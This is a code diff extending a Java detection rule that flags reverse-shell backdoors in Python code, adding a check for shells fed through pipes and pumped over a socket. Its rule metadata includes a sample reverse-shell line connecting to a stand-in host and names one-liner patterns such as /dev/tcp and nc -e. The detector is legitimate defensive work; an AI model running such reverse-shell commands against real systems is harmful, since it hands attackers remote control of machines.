@@ -27,7 +27,8 @@ public final class ReverseShellRule implements PythonFileRule {
 
     private static final RuleInfo INFO = new RuleInfo("KS-BACKDOOR-REVERSE-SHELL",
             "Reverse shell: a socket bound to a shell's stdin/stdout (os.dup2 + pty.spawn/subprocess, stdin=sock), "
-                    + "or a shell one-liner (/dev/tcp, nc -e, bash -i >&)",
+                    + "a shell on pipes pumped to and from a socket by threads, or a shell one-liner (/dev/tcp, nc -e, "
+                    + "bash -i >&)",
             Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.BACKDOOR, Tags.NETWORK, Tags.PROCESS),
             "s = socket.socket(); s.connect(('c2.example.invalid', 4444)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')",
             "Terminal emulators and test harnesses use os.dup2 and pty without sockets; the rule needs a socket in "
@@ -67,6 +68,9 @@ public final class ReverseShellRule implements PythonFileRule {
                     why = "rebinds standard streams to a socket and starts a shell";
                 } else if (c.is(Capability.PROCESS) && streamsFromSocket(c.call())) {
                     why = "starts a process whose standard streams are a socket";
+                } else if (c.is(Capability.PROCESS) && scope.contains(Capability.CONNECT)
+                        && startsPipedShell(facts, c.call()) && pumpsSocketAndPipes(facts)) {
+                    why = "starts a shell on pipes and pumps it to and from a socket";
                 }
                 if (why != null) {
                     sink.report(file, c.call(), why);
@@ -94,6 +98,46 @@ public final class ReverseShellRule implements PythonFileRule {
                         Confidence.HIGH);
             }
         }
+    }
+
+    /** A command interpreter, alone as the program: cmd.exe, powershell, sh, bash. */
+    private static final Pattern SHELL_PROGRAM = Pattern.compile(
+            "(?i)(.*[/\\\\])?(cmd(\\.exe)?|powershell(\\.exe)?|pwsh|sh|bash|zsh|dash)");
+
+    /** {@code Popen(["cmd.exe"], stdin=PIPE, ...)}: an interactive shell fed through a pipe. */
+    private static boolean startsPipedShell(CallFacts facts, Expr.Call call) {
+        Optional<Expr> first = call.arg(0).map(a -> a instanceof Expr.Sequence seq && !seq.elements().isEmpty()
+                ? seq.elements().get(0) : a);
+        return first.flatMap(facts::text).filter(t -> SHELL_PROGRAM.matcher(t.strip()).matches()).isPresent()
+                && call.keyword("stdin").isPresent();
+    }
+
+    /**
+     * Somewhere in the file, socket data is written to a process's stdin ({@code proc.stdin.write(sock.recv(n))})
+     * or a process's stdout is sent ({@code sock.send(proc.stdout.read(1))}): the threads of a shell pump.
+     */
+    private static boolean pumpsSocketAndPipes(CallFacts facts) {
+        Set<Integer> receives = new java.util.HashSet<>();
+        Set<Integer> sends = new java.util.HashSet<>();
+        Set<Integer> writesStdin = new java.util.HashSet<>();
+        Set<Integer> readsStdout = new java.util.HashSet<>();
+        for (CallFacts.CallFact c : facts.calls()) {
+            String m = c.method();
+            if ("recv".equals(m) || "recv_into".equals(m)) {
+                receives.add(c.scope());
+            } else if ("send".equals(m) || "sendall".equals(m)) {
+                sends.add(c.scope());
+            } else if (c.call().callee() instanceof Expr.Attribute a && a.value() instanceof Expr.Attribute stream) {
+                if ("write".equals(a.attr()) && "stdin".equals(stream.attr())) {
+                    writesStdin.add(c.scope());
+                } else if (a.attr().startsWith("read") && ("stdout".equals(stream.attr()) || "stderr".equals(stream.attr()))) {
+                    readsStdout.add(c.scope());
+                }
+            }
+        }
+        receives.retainAll(writesStdin);
+        sends.retainAll(readsStdout);
+        return !receives.isEmpty() || !sends.isEmpty();
     }
 
     private static boolean streamsFromSocket(Expr.Call call) {
